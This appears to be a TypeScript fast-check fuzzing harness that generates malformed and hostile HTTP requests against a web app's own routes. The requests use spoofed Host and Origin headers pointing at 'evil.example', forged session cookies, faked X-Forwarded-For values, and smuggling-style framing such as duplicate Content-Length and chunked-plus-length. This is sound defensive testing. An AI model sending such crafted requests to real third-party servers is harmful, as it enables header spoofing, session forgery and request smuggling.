/** The headers other than framing, each present or not; Host and Origin mostly right. */
function otherHeaders(site: SiteFacts): fc.Arbitrary<{ headers: Header[]; hostless: boolean }> {
  const origin = `http://${site.host}`;
  const maybe = (weightAbsent: number, arb: fc.Arbitrary<Header[]>) =>
    fc.oneof({ weight: weightAbsent, arbitrary: fc.constant([] as Header[]) }, { weight: 1, arbitrary: arb });
  const one = (name: string, values: fc.Arbitrary<string>) => values.map((v): Header[] => [[name, v]]);
  return fc
    .record({
      host: fc.oneof(
        { weight: 12, arbitrary: fc.constant([["Host", site.host]] as Header[]) },
        { weight: 1, arbitrary: fc.constant([] as Header[]) },
        {
          weight: 2,
          arbitrary: one(
            "Host",
            fc.oneof(
              fc.constantFrom(
                "evil.example",
                "",
                "[::1]",
                "127.0.0.1:99999",
                "a b",
                "localhost:0",
                "xn--",
                "ÿ.example",
                "..",
                "@",
              ),
              headerText,
            ),
          ),
        },
        {
          weight: 1,
          arbitrary: fc.constant([
            ["Host", site.host],
            ["Host", "evil.example"],
          ] as Header[]),
        },
      ),
      origin: maybe(
        2,
        one(
          "Origin",
          fc.oneof(
            fc.constant(origin),
            fc.constant(origin),
            fc.constantFrom("null", "https://evil.example", "http://127.0.0.1"),
            headerText,
          ),
        ),
      ),
      agent: fc.oneof(
        { weight: 3, arbitrary: fc.constant([["User-Agent", HUMAN_AGENT]] as Header[]) },
        { weight: 1, arbitrary: fc.constant([] as Header[]) },
        {
          weight: 1,
          arbitrary: one("User-Agent", fc.oneof(fc.constantFrom("Googlebot/2.1", "curl/8", ""), headerText)),
        },
      ),
      cookie: maybe(
        2,
        one(
          "Cookie",
          fc.oneof(
            fc.constant(site.sessionCookie),
            fc.constant(site.sessionCookie),
            ...site.signedInCookies.flatMap((cookie) => [fc.constant(cookie), fc.constant(cookie)]),
            headerText,
            fc.constantFrom(
              "rvs.session_token=garbage",
              "rvs.session_token=a.b; rvs.session_data=%%%",
              "rvs.session_data=eyJ9",
              "=;=;;;",
              "a=1; a=2; a=3",
              "__Secure-rvs.session_token=x",
            ),
            fc
              .array(fc.tuple(fc.stringMatching(/^[a-z_.]{1,8}$/), fc.string({ maxLength: 20 })), { maxLength: 60 })
              .map((pairs) => pairs.map(([k, v]) => `${k}=${v.replace(/[\r\n;]/g, "")}`).join("; ")),
          ),
        ),
      ),
      requestId: maybe(3, one("X-Request-Id", fc.oneof(fc.uuid(), headerText))),
      forwarded: maybe(
        3,
        one(
          "X-Forwarded-For",
          fc.oneof(fc.constantFrom("1.2.3.4", "::1", "1.2.3.4, 5.6.7.8", "unknown", ",,,", "999.999.1.1"), headerText),
        ),
      ),
      encoding: maybe(
        2,
        one(
          "Accept-Encoding",
          fc.oneof(fc.constantFrom("gzip", "br", "deflate", "*", "gzip;q=x", "identity;q=0"), headerText),
        ),
      ),
      accept: maybe(
        2,
        one(
          "Accept",
          fc.oneof(fc.constantFrom("text/html", "application/json", "*/*", "text/x-component"), headerText),
        ),
      ),
      extra: maybe(
        2,
        fc
          .array(
            fc.tuple(
              fc.constantFrom(
                "Range",
                "If-None-Match",
                "If-Modified-Since",
                "Referer",
                "X-Forwarded-Proto",
                "X-Forwarded-Host",
                "Authorization",
                "Sec-Fetch-Site",
                "Expect",
                "X-Fuzz",
              ),
              fc.oneof(
                fc.constantFrom("bytes=0-10", "bytes=x", "*", 'W/"x"', "100-continue", "https", "Bearer x"),
                headerText,
              ),
            ),
            { maxLength: 4 },
          )
          .map((pairs) => pairs.map(([k, v]): Header => [k, v])),
      ),
    })
    .map((h) => ({
      headers: [
        ...h.host,
        ...h.origin,
        ...h.agent,
        ...h.cookie,
        ...h.requestId,
        ...h.forwarded,
        ...h.encoding,
        ...h.accept,
        ...h.extra,
      ],
      hostless: h.host.length === 0,
    }));
}

/** Every route template to fuzz: the route table's paths plus the server's own. */
export function routeTemplates(routes: readonly { path?: string; index?: boolean; children?: unknown[] }[]): string[] {
  const out = new Set<string>();
  const walk = (list: readonly { path?: string; index?: boolean; children?: unknown[] }[], prefix: string) => {
    for (const r of list) {
      const path = r.index ? prefix || "/" : `${prefix}/${r.path ?? ""}`.replace(/\/+/g, "/");
      out.add(path === "" ? "/" : path);
      if (r.children) walk(r.children as typeof list, path === "/" ? "" : path);
    }
  };
  walk(routes, "");
  for (const extra of EXTRA_ROUTES) out.add(extra);
  return [...out];
}

/**
 * A request a browser on this site could send: this Host and Origin, a person's user agent, a
 * session (often a signed-in one), GET or a form POST framed right. Most of `requestArbitrary`'s
 * inputs are stopped at the edge (a bad Host, Origin or framing answers 4xx before any route runs);
 * these get past it to the loaders and actions, whose fields then carry the hostile values.
 */
export function plausibleRequestArbitrary(templates: string[], site: SiteFacts): fc.Arbitrary<FuzzInput> {
  const cookies = [site.sessionCookie, ...site.signedInCookies, ...site.signedInCookies];
  const consoles = templates.filter((t) => t.startsWith("/owner") || t.startsWith("/admin"));
  const forms = templates.filter((t) => ROUTE_FORMS[t]);
  return fc
    .record({
      route: fc.oneof(
        // The consoles' routes most: they are the ones only a signed-in session reaches.
        { weight: 3, arbitrary: fc.constantFrom(...(consoles.length > 0 ? consoles : templates)) },
        // Then the routes whose forms ROUTE_FORMS lists (the review form is outside the consoles).
        { weight: forms.length > 0 ? 1 : 0, arbitrary: fc.constantFrom(...(forms.length > 0 ? forms : templates)) },
        { weight: 1, arbitrary: fc.constantFrom(...templates) },
      ),
      post: fc.boolean(),
      cookie: fc.constantFrom(...cookies),
    })
    .chain(({ route, post, cookie }) =>
      fc
        .tuple(pathFor(route, site), queryString(route, site), formBody(site, route))
        .map(([path, query, form]): FuzzInput => {
          const body = post ? form.body : Buffer.alloc(0);
          const headers: Header[] = [
            ["Host", site.host],
            ["Origin", `http://${site.host}`],
            ["User-Agent", HUMAN_AGENT],
            ["Cookie", cookie],
          ];
          if (post) headers.push(["Content-Type", form.contentType ?? "application/x-www-form-urlencoded"]);
          if (post) headers.push(["Content-Length", String(body.length)]);
          headers.push(["Connection", "close"]);
          return {
            request: {
              method: post ? "POST" : "GET",
              target: `${path.text}${post ? postedQuery(route, query.text) : query.text}`,
              version: "HTTP/1.1",
              headers,
              body,
            },
            route,
            bodyShort: false,
            long: path.long || query.long,
          };
        }),
    );
}

/** A whole request to one of `templates`. */
export function requestArbitrary(templates: string[], site: SiteFacts): fc.Arbitrary<FuzzInput> {
  const target = fc
    // Routes that parse free text or forms are drawn more often than the placeholders.
    .oneof(
      ...templates.map((template) => ({
        weight: ROUTE_KEYS[template] || ROUTE_FORMS[template] ? 4 : 1,
        arbitrary: fc.constant(template),
      })),
    )
    .chain((route) =>
      fc.tuple(
        fc.constant(route),
        pathFor(route, site),
        queryString(route, site),
        fc.constantFrom("origin", "origin", "origin", "origin", "absolute", "foreign", "fragment"),
        bodyChoice(site, route),
      ),
    );
  return fc
    .record({
      target,
      method: fc.oneof(
        { weight: 20, arbitrary: fc.constantFrom(...METHODS) },
        { weight: 1, arbitrary: fc.constantFrom("PROPFIND", "get", "FOO") },
      ),
      version: fc.oneof(
        { weight: 8, arbitrary: fc.constant("HTTP/1.1" as const) },
        { weight: 1, arbitrary: fc.constant("HTTP/1.0" as const) },
      ),
      headers: otherHeaders(site),
      contentType: fc.oneof(
        { weight: 6, arbitrary: fc.constant("match") },
        { weight: 1, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
        { weight: 1, arbitrary: fc.constant("none") },
      ),
      framing,
      badLength: fc.constantFrom("abc", "-1", "1e3", " 5", "99999999999999999999", "0x10", ""),
    })
    .map(({ target: [route, path, query, form, body], method, version, headers, contentType, framing, badLength }) => {
      const pathAndQuery = `${path.text}${query.text}`;
      const requestTarget =
        form === "absolute"
          ? `http://${site.host}${pathAndQuery}`
          : form === "foreign"
            ? `http://evil.example${pathAndQuery}`
            : form === "fragment"
              ? `${pathAndQuery}#frag`
              : pathAndQuery;
      const all: Header[] = [...headers.headers];
      const type = contentType === "match" ? body.contentType : contentType === "none" ? null : contentType;
      if (type !== null) all.push(["Content-Type", type]);
      let bytes = body.body;
      let bodyShort = false;
      const hasBody = bytes.length > 0;
      switch (framing) {
        case "length":
          if (hasBody || method === "POST" || method === "PUT" || method === "PATCH")
            all.push(["Content-Length", String(bytes.length)]);
          break;
        case "none":
          // Without framing the server reads no body; sending one would turn it into a second request.
          bytes = Buffer.alloc(0);
          break;
        case "shorter":
          all.push(["Content-Length", String(Math.max(0, bytes.length - 1 - (bytes.length >> 1)))]);
          break;
        case "longer":
          all.push(["Content-Length", String(bytes.length + 10)]);
          bodyShort = true;
          break;
        case "garbage":
          all.push(["Content-Length", badLength]);
          // " 5" is a valid length to Node: the server then rightly waits for bytes that never come.
          bodyShort = /^\s*\d+\s*$/.test(badLength) && Number(badLength) > bytes.length;
          break;
        case "duplicate":
          all.push(["Content-Length", String(bytes.length)], ["Content-Length", String(bytes.length + 1)]);
          break;
        case "chunked":
          all.push(["Transfer-Encoding", "chunked"]);
          bytes = chunked(bytes);
          break;
        case "broken-chunked":
          all.push(["Transfer-Encoding", "chunked"], ["Content-Length", String(bytes.length)]);
          break;
      }
      if (version === "HTTP/1.1") all.push(["Connection", "close"]);
      return {
        request: { method, target: requestTarget, version, headers: all, body: bytes },
        route,
        bodyShort,
        long: path.long || query.long || all.some(([, v]) => v.length > 1000),
      };
    });
}
